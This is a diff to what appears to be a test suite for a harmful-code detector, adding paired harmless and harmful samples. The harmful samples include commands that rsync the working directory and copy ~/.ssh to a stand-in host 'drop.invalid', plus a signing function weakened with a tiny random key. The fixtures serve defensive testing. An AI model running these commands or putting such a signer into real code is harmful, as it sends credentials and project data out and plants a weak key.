@@ -21,6 +21,18 @@ def the_function(language: str, text: str) -> tree.Function:
     ("path", "harmless", "harmful", "kind"),
     [
         (
+            "a.py",
+            "import os\nos.execlp('rsync', 'rsync', '--server', '--confine-root=' + os.getcwd(), '.', '.')\n",
+            "import os\nos.execlp('rsync', 'rsync', '-a', os.getcwd(), 'deploy@drop.invalid:in')\n",
+            "chain.host-to-network",
+        ),
+        (
+            "a.sh",
+            "scp -r ~/.ssh /mnt/backup\n",
+            "scp -r ~/.ssh deploy@drop.invalid:in\n",
+            "chain.credentials-to-network",
+        ),
+        (
             "a.js",
             "const c = require('crypto'); const nonce = c.randomBytes(6).toString('base64'); exports.sign = (key, text) => c.createHmac('sha256', key).update(text + nonce).digest('base64');",
             "const c = require('crypto'); const key = c.randomBytes(3).toString('base64'); exports.sign = (text) => c.createHmac('sha256', key).update(text).digest('base64');",
